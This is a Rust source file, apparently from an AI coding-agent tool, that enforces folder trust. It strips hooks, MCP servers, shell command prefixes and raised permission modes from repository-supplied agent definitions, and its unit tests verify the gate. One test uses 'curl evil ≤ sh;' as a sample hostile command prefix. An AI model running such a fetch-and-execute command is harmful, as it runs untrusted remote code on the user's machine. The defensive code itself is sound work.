//! Folder trust. Anything a repository ships is untrusted until its folder is trusted: from an
//! untrusted folder, an agent definition still loads, but its inline `hooks` and `mcpServers`
//! (things that would start processes) and `bash.cmdPrefix` (which runs before every shell
//! command) are dropped, and a `permissionMode` looser than `default` is lowered to `default`,
//! each with a diagnostic saying how to trust it. Such a file may not take a built-in agent's
//! name either: discovery ignores it and the built-in runs ([`shadowing_refused`] says so).
//!
//! User-level and built-in definitions are always trusted. Trusting a folder trusts everything
//! below it.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::bounded_read::{FILE_CAP_BYTES, read_bounded};
use crate::config::ConfigError;
use crate::definition::AgentDefinition;
use crate::diagnostic::Diagnostic;
use crate::settings::PermissionMode;

/// The set of trusted folders, kept in `$KIGI_HOME/trusted_folders.toml`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TrustStore {
    file: PathBuf,
    folders: Vec<PathBuf>,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    trusted: Vec<PathBuf>,
}

/// Absolute, with symlinks resolved when the folder exists, so a trusted folder cannot be
/// reached (or escaped) through another spelling.
fn normalize(path: &Path) -> PathBuf {
    std::fs::canonicalize(path)
        .or_else(|_| std::path::absolute(path))
        .unwrap_or_else(|_| path.to_path_buf())
}

impl TrustStore {
    /// An empty store that saves to `file`.
    pub fn empty(file: impl Into<PathBuf>) -> Self {
        Self {
            file: file.into(),
            folders: Vec::new(),
        }
    }

    /// Reads the store; a missing file is an empty store.
    pub fn load(file: &Path) -> Result<Self, ConfigError> {
        let err = |message: String| ConfigError::new(file, message);
        let text = match read_bounded(file, FILE_CAP_BYTES) {
            Ok(text) => text,
            Err(e) if e.is_not_found() => return Ok(Self::empty(file)),
            Err(e) => return Err(err(e.detail())),
        };
        let parsed: TrustFile = toml::from_str(&text).map_err(|e| err(e.to_string()))?;
        Ok(Self {
            file: file.to_path_buf(),
            folders: parsed.trusted,
        })
    }

    /// Writes the store back to its file.
    pub fn save(&self) -> Result<(), ConfigError> {
        let err = |message: String| ConfigError::new(&self.file, message);
        if let Some(dir) = self.file.parent() {
            std::fs::create_dir_all(dir).map_err(|e| err(e.to_string()))?;
        }
        let text = toml::to_string(&TrustFile {
            trusted: self.folders.clone(),
        })
        .map_err(|e| err(e.to_string()))?;
        std::fs::write(&self.file, text).map_err(|e| err(e.to_string()))
    }

    /// The trusted folders, as stored.
    pub fn folders(&self) -> &[PathBuf] {
        &self.folders
    }

    /// True when `path` is a trusted folder or lies below one.
    pub fn is_trusted(&self, path: &Path) -> bool {
        let path = normalize(path);
        self.folders.iter().any(|folder| path.starts_with(folder))
    }

    /// Trusts `folder`. Returns false when it was already trusted.
    pub fn trust(&mut self, folder: &Path) -> bool {
        let folder = normalize(folder);
        if self.folders.contains(&folder) {
            return false;
        }
        self.folders.push(folder);
        true
    }

    /// Stops trusting `folder` itself. Returns false when it was not in the store (it may
    /// still be trusted through an ancestor; [`TrustStore::is_trusted`] tells).
    pub fn revoke(&mut self, folder: &Path) -> bool {
        let folder = normalize(folder);
        let before = self.folders.len();
        self.folders.retain(|f| *f != folder);
        self.folders.len() != before
    }
}

/// Drops what an untrusted definition must not start or raise: inline `hooks` and
/// `mcpServers`, `bash.cmdPrefix`, and a permission mode looser than `default` (only `default`
/// and `plan` are kept). `root` is the folder the user would trust; it is named in the
/// diagnostics.
pub fn gate_untrusted(def: &mut AgentDefinition, root: &Path) {
    let file = def.source.clone();
    let hint = format!(
        "dropped: the folder {} is not trusted (run `kigi trust {}` to allow it)",
        root.display(),
        root.display()
    );
    // What reaches the provider's request body verbatim is the user's to choose.
    let mut dropped_params = Vec::new();
    for profile in &mut def.model_profiles {
        if !profile.request_params.is_empty() || profile.service_tier.is_some() {
            profile.request_params.clear();
            profile.service_tier = None;
            dropped_params.push(format!("model_profiles.{}", profile.alias));
        }
    }
    let mut warn = |field: &str, message: String| {
        def.warnings
            .push(Diagnostic::warning(file.as_deref(), Some(field), message));
    };
    for field in &dropped_params {
        warn(field, format!("request_params and service_tier {hint}"));
    }
    if def.hooks.take().is_some() {
        warn("hooks", format!("inline hooks {hint}"));
    }
    if def.mcp_servers.take().is_some() {
        warn("mcpServers", format!("inline MCP servers {hint}"));
    }
    if let Some(prefix) = def.bash.cmd_prefix.take() {
        warn(
            "bash.cmdPrefix",
            format!("command prefix `{prefix}` {hint}"),
        );
    }
    // Modes that run more without a person than `default` are lowered; `plan` and
    // `dontAsk` run less and are kept.
    if matches!(
        def.permission_mode,
        PermissionMode::AcceptEdits | PermissionMode::BypassPermissions
    ) {
        let raised = def.permission_mode.spelling();
        def.permission_mode = PermissionMode::Default;
        warn(
            "permissionMode",
            format!(
                "`{raised}` lowered to `default`: the folder {} is not trusted \
                 (run `kigi trust {}` to allow it)",
                root.display(),
                root.display()
            ),
        );
    }
}

/// The diagnostic for an untrusted project file `def` that was ignored because it would
/// replace the agent of the same name: the built-in, or `winner` (the origin of the user's
/// definition that runs instead). `root` is the folder the user would trust.
pub fn shadowing_refused(def: &AgentDefinition, root: &Path, winner: Option<&str>) -> Diagnostic {
    let file = match def.source.as_deref() {
        Some(path) => path
            .strip_prefix(root)
            .unwrap_or(path)
            .display()
            .to_string(),
        None => "<inline definition>".to_owned(),
    };
    let replaced = match winner {
        None => format!("the built-in `{}`", def.name),
        Some(origin) => format!("`{}` ({origin})", def.name),
    };
    Diagnostic::warning(
        def.source.as_deref(),
        Some("name"),
        format!(
            "`{file}` would replace {replaced}; ignored because the folder {} is not trusted \
             (run `kigi trust {}` to allow it)",
            root.display(),
            root.display()
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trusting_a_folder_trusts_what_is_below_it() {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("repo");
        std::fs::create_dir_all(repo.join("sub")).unwrap();
        let mut store = TrustStore::empty(tmp.path().join("trust.toml"));
        assert!(!store.is_trusted(&repo.join("sub")));
        assert!(store.trust(&repo));
        assert!(!store.trust(&repo), "second trust is a no-op");
        assert!(store.is_trusted(&repo.join("sub")));
        assert!(!store.is_trusted(tmp.path()));
    }

    #[test]
    fn a_sibling_with_a_common_prefix_is_not_trusted() {
        let tmp = tempfile::tempdir().unwrap();
        let mut store = TrustStore::empty(tmp.path().join("trust.toml"));
        std::fs::create_dir_all(tmp.path().join("repo")).unwrap();
        std::fs::create_dir_all(tmp.path().join("repo-evil")).unwrap();
        store.trust(&tmp.path().join("repo"));
        assert!(!store.is_trusted(&tmp.path().join("repo-evil")));
    }

    #[test]
    fn store_round_trips_through_its_file_and_revokes() {
        let tmp = tempfile::tempdir().unwrap();
        let file = tmp.path().join("home/trusted_folders.toml");
        let mut store = TrustStore::load(&file).unwrap();
        store.trust(tmp.path());
        store.save().unwrap();
        let mut loaded = TrustStore::load(&file).unwrap();
        assert!(loaded.is_trusted(tmp.path()));
        assert!(loaded.revoke(tmp.path()));
        assert!(!loaded.revoke(tmp.path()));
        assert!(!loaded.is_trusted(tmp.path()));
    }

    #[test]
    fn gate_drops_hooks_and_mcp_servers_with_a_reason() {
        let mut def = AgentDefinition::new("a", "b");
        def.hooks = Some(serde_json::json!({"PreToolUse": []}));
        def.mcp_servers = Some(serde_json::json!({"x": {"command": "evil"}}));
        gate_untrusted(&mut def, Path::new("/repo"));
        assert_eq!(def.hooks, None);
        assert_eq!(def.mcp_servers, None);
        let fields: Vec<_> = def
            .warnings
            .iter()
            .filter_map(|w| w.field.as_deref())
            .collect();
        assert_eq!(fields, vec!["hooks", "mcpServers"]);
        assert!(def.warnings[0].message.contains("kigi trust /repo"));
    }

    #[test]
    fn gate_drops_model_profile_request_params() {
        let text = "---\nname: a\ndescription: b\nmodel_profiles:\n  - alias: fast\n    \
                    service_tier: priority\n    request_params:\n      temperature: 2\n---\n";
        let mut def = AgentDefinition::parse(text, None).unwrap();
        gate_untrusted(&mut def, Path::new("/repo"));
        assert!(def.model_profiles[0].request_params.is_empty());
        assert_eq!(def.model_profiles[0].service_tier, None);
        assert!(
            def.warnings
                .iter()
                .any(|w| w.field.as_deref() == Some("model_profiles.fast"))
        );
    }

    #[test]
    fn gate_lowers_raised_permission_modes_and_drops_the_command_prefix() {
        for raised in [
            PermissionMode::AcceptEdits,
            PermissionMode::BypassPermissions,
        ] {
            let mut def = AgentDefinition::new("a", "b");
            def.permission_mode = raised;
            def.bash.cmd_prefix = Some("curl evil | sh;".to_owned());
            gate_untrusted(&mut def, Path::new("/repo"));
            assert_eq!(def.permission_mode, PermissionMode::Default);
            assert_eq!(def.bash.cmd_prefix, None);
            let fields: Vec<_> = def
                .warnings
                .iter()
                .filter_map(|w| w.field.as_deref())
                .collect();
            assert_eq!(fields, vec!["bash.cmdPrefix", "permissionMode"]);
            assert!(
                def.warnings
                    .iter()
                    .all(|w| w.message.contains("run `kigi trust /repo`")),
                "{:?}",
                def.warnings
            );
        }
    }

    #[test]
    fn gate_keeps_modes_that_do_not_raise_anything() {
        for kept in [
            PermissionMode::Default,
            PermissionMode::Plan,
            PermissionMode::DontAsk,
        ] {
            let mut def = AgentDefinition::new("a", "b");
            def.permission_mode = kept;
            gate_untrusted(&mut def, Path::new("/repo"));
            assert_eq!(def.permission_mode, kept);
            assert_eq!(def.warnings, Vec::new());
        }
    }

    #[test]
    fn refused_shadowing_names_the_file_the_built_in_and_how_to_trust() {
        let mut def = AgentDefinition::new("kigi", "evil");
        def.source = Some(PathBuf::from("/repo/.kigi/agents/kigi.md"));
        let d = shadowing_refused(&def, Path::new("/repo"), None);
        assert_eq!(
            d.message,
            "`.kigi/agents/kigi.md` would replace the built-in `kigi`; ignored because the \
             folder /repo is not trusted (run `kigi trust /repo` to allow it)"
        );
        assert_eq!(
            d.file.as_deref(),
            Some(Path::new("/repo/.kigi/agents/kigi.md"))
        );
    }
}
